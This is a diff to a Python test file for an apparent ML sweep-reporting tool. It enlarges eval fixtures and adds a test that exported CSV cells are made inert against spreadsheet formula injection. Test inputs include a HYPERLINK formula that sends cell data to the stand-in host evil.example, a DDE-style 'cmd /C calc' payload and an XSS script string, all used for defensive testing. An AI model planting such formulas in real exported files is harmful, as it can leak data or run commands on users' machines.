@@ -15,7 +15,7 @@ import pytest
 
 from knobsweep import layout
 from knobsweep.io import atomic_write_json
-from knobsweep.report import build_report, collect_experiment, report_paths
+from knobsweep.report import build_report, collect_experiment, inert_in_spreadsheets, report_paths
 from knobsweep.spec import Experiment, Run, StageKeys
 
 XSS = "<script>alert(1)</script>"
@@ -76,15 +76,21 @@ def write_train(root: Path, run: Run, rewards: list[float], state: str = "COMPLE
     )
 
 
+EVAL_ROWS = 100
+
+
 def write_eval(root: Path, key: str, score: float, completion: str = "#### 42") -> None:
+    """An eval of EVAL_ROWS prompts: the first round(score x EVAL_ROWS) right (score 1), the rest wrong,
+    so the same prompts are right in every run that scores at least as high (paired data)."""
+    right = round(score * EVAL_ROWS)
     atomic_write_json(
         layout.path(layout.EVAL_SUMMARY, root, key=key),
         {
             "score": score,
             "parts": {"correct": score - 0.05, "format": 0.9},
-            "n": 20,
-            "n_valid": 20,
-            "n_correct": int(20 * (score - 0.05)),
+            "n": EVAL_ROWS,
+            "n_valid": EVAL_ROWS,
+            "n_correct": right,
             "parse_failures": 2,
             "backend": "hf",
             "model": "m",
@@ -99,12 +105,12 @@ def write_eval(root: Path, key: str, score: float, completion: str = "#### 42") 
             "prompt": [{"role": "user", "content": f"What is {i}+1?"}],
             "completion": completion,
             "ground_truth": str(i + 1),
-            "score": 1.0,
+            "score": float(i < right),
             "reason": "ok",
             "valid": True,
-            "parts": {"correct": 1, "format": 1},
+            "parts": {"correct": float(i < right), "format": 1},
         }
-        for i in range(5)
+        for i in range(EVAL_ROWS)
     ]
     samples.write_text("".join(json.dumps(row) + "\n" for row in rows))
 
@@ -223,6 +229,10 @@ def test_report_three_runs(three_runs: tuple[Experiment, Path]) -> None:
     assert lr["changed"] == "train.learning_rate=3e-4" and lr["train.learning_rate"] == 3e-4
     assert lr["hypothesis"] == "a higher LR learns faster"
     assert ref["eval_score"] == pytest.approx(0.10) and ref["status"] == "evaluated"
+    # Cost: 20 s of training and 3 s of eval on one CPU core (the tiny model's default resources).
+    assert base["cpu_hours"] == pytest.approx(23 / 3600) and base["gpu_hours"] is None
+    assert ref["cpu_hours"] == pytest.approx(3 / 3600)
+    assert "Measured cost: 0.02 CPU-h in all: training and eval of 3 runs, and 1 base-model eval." in page
     assert ref["delta_eval_score"] == pytest.approx(-0.30)
 
     # CSV: same rows and columns as the JSON.
@@ -483,3 +493,22 @@ def rich_sweep(root: Path, steps: int = 30) -> Experiment:
     write_full_eval(root, "eval-x", 0.90, 0.95, completion=f"{IMG_XSS} {XSS} #### 1", parser="flexible")
     write_full_eval(root, "base0", 0.05, 0.20)
     return experiment
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_inert(tmp_path: Path) -> None:
+    """OWASP CSV injection: text starting with = + - @ (or a tab / CR) gets a leading quote; numbers stay."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    bad = make_run(formula, {"rollout.temperature": "@SUM(1+1)"}, "x", config_with(rollout__temperature="@SUM(1+1)"))
+    experiment = Experiment(
+        name="csv", path=tmp_path / "csv.yaml", runs=(make_run("baseline", {}, "a"), bad), hypotheses={}, mode="ofat"
+    )
+    write_train(tmp_path, bad, [0.1, 0.2], state="FAILED", reason="-2+3 cmd|' /C calc'!A0")
+    paths = build_report(experiment, tmp_path)
+    with open(paths["csv"], newline="") as file:
+        rows = {row["run"]: row for row in csv.DictReader(file)}
+    row = rows["'" + formula]
+    assert row["rollout.temperature"] == "'@SUM(1+1)" and row["reason"] == "'-2+3 cmd|' /C calc'!A0"
+    with open(paths["curves"], newline="") as file:
+        assert {r["run"] for r in csv.DictReader(file)} >= {"'" + formula}
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows.values() for cell in r.values())
+    assert inert_in_spreadsheets("-0.5") == "'-0.5" and inert_in_spreadsheets("baseline") == "baseline"
